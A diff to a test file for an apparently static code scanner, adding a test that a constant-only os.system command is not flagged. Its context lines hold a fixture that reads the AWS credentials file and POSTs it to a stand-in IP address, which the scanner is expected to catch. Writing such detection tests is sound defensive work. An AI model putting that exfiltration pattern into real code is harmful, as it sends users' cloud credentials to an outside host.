@@ -142,3 +142,8 @@ def test_star_parameters_carry_the_callers_arguments(capsys, tmp_path):
             'def loot():\n    return open(home(".aws", "credentials")).read()\n\n'
             'requests.post("http://198.51.100.200/u", data={"c": loot()})\n')
     assert "credential-file-sent-over-network" in _high(capsys, tmp_path, "s.py", text)
+
+
+def test_a_command_built_from_constants_in_branches_stays_constant_only(capsys, tmp_path):
+    text = ('import os, sys\ncmd = "ls"\nif len(sys.argv) > 1:\n    cmd += " -l"\nos.system(cmd + " /tmp")\n')
+    assert "os-system-built-command" not in _high(capsys, tmp_path, "c.py", text)
